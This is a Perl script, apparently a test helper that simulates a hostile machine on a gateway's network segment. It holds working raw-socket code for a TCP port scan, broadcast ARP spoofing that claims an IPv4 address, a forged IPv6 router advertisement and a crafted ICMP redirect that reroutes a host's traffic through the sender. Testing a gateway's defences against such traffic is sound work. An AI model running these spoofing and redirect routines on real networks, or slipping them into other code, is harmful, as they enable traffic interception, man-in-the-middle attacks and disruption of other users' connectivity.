# What a hostile machine does to a gateway on its wire, besides what the leak test's probes do:
#   perl stranger.pl scan ADDRESS PORT…            how many answer: "CONNECTED REFUSED SILENT"
#   perl stranger.pl arp ADDRESS                   says to everybody that it has the IPv4 address
#   perl stranger.pl advertise                     says to everybody that it is the IPv6 router
#   perl stranger.pl redirect GATEWAY4 MAC HOST    tells the gateway to reach a host through it
# Only modules of perl-base are used. eth0 is the interface.
use strict;
use warnings;
use Socket qw(:all);
use POSIX ();

my $WAIT = 1.0;    # seconds for answers of a scan

sub checksum {
  my $bytes = shift;
  $bytes .= "\0" if length($bytes) % 2;
  my $sum = 0;
  $sum += $_ for unpack("n*", $bytes);
  $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
  return ~$sum & 0xffff;
}

sub ask_interface {
  my $request = shift;
  socket(my $any, AF_INET, SOCK_DGRAM, 0) or die "socket: $!";
  my $answer = pack("a16 x24", "eth0");
  ioctl($any, $request, $answer) or die "ioctl: $!";
  return substr($answer, 16, 16);
}
my $index   = unpack("i", ask_interface(0x8933));
my $own_mac = substr(ask_interface(0x8927), 2, 6);
my $own4    = substr(ask_interface(0x8915), 4, 4);

sub frame {
  my ($to, $type, $body) = @_;
  socket(my $socket, 17, SOCK_RAW, 0) or die "socket: $!";
  my $where = pack("S n i S C C a8", 17, $type, $index, 0, 0, 6, $to);
  defined send($socket, $to . $own_mac . pack("n", $type) . $body, 0, $where) or die "send: $!";
  return;
}

sub scan {
  my ($host, @ports) = @_;
  my $v6 = $host =~ /:/;
  my %open;
  for my $port (@ports) {
    socket(my $socket, $v6 ? AF_INET6 : AF_INET, SOCK_STREAM, 0) or die "socket: $!";
    my $on = pack("i", 1);
    ioctl($socket, 0x5421, $on);
    my $to = $v6 ? pack_sockaddr_in6($port, inet_pton(AF_INET6, $host))
      : pack_sockaddr_in($port, inet_pton(AF_INET, $host));
    connect($socket, $to);
    $open{ fileno($socket) } = $socket;
  }
  my ($connected, $refused) = (0, 0);
  my $until = time() + 1 + $WAIT;
  while (%open && time() < $until) {
    my $bits = "";
    vec($bits, $_, 1) = 1 for keys %open;
    my $ready = $bits;
    select(undef, $ready, undef, 0.1) > 0 or next;
    for my $number (grep { vec($ready, $_, 1) } keys %open) {
      my $socket = delete $open{$number};
      unpack("i", getsockopt($socket, SOL_SOCKET, SO_ERROR)) ? $refused++ : $connected++;
    }
  }
  print "$connected $refused ", scalar(keys %open), "\n";
  return;
}

sub arp {
  my $address = inet_aton(shift);
  my $all     = "\xff" x 6;
  frame($all, 0x0806, pack("nnCCn", 1, 0x0800, 6, 4, $_) . $own_mac . $address . $all . $address)
    for 1, 2;
  return;
}

# RFC 4861, section 4.2: a router for half an hour, with its hardware address.
sub advertise {
  my ($from, $to) = map { inet_pton(AF_INET6, $_) } "fe80::15", "ff02::1";
  my $plain = pack("CCnCCnNN", 134, 0, 0, 64, 0, 1800, 0, 0) . pack("CC", 1, 1) . $own_mac;
  my $sum   = checksum($from . $to . pack("NN", length $plain, 58) . $plain);
  substr($plain, 2, 2) = pack("n", $sum);
  frame("\x33\x33\0\0\0\x01", 0x86dd,
    pack("NnCC", 0x60000000, length $plain, 58, 255) . $from . $to . $plain);
  return;
}

# RFC 792: "for that host, come to me", as the host's own router would say.
sub redirect {
  my ($gateway, $mac, $host) = @_;
  my $about = pack("CCnnnCCn", 0x45, 0, 28, 0, 0, 64, 17, 0) . inet_aton($gateway) . inet_aton($host)
    . "\0" x 8;
  my $body = pack("CCn", 5, 1, 0) . $own4 . $about;
  substr($body, 2, 2) = pack("n", checksum($body));
  my $header = pack("CCnnnCCn", 0x45, 0, 20 + length $body, 7, 0, 64, 1, 0)
    . $own4 . inet_aton($gateway);
  substr($header, 10, 2) = pack("n", checksum($header));
  frame(pack("H12", $mac =~ tr/0-9a-f//cdr), 0x0800, $header . $body);
  return;
}

my ($deed, @about) = @ARGV;
my %deeds = (scan => \&scan, arp => \&arp, advertise => \&advertise, redirect => \&redirect);
$deeds{$deed}->(@about);
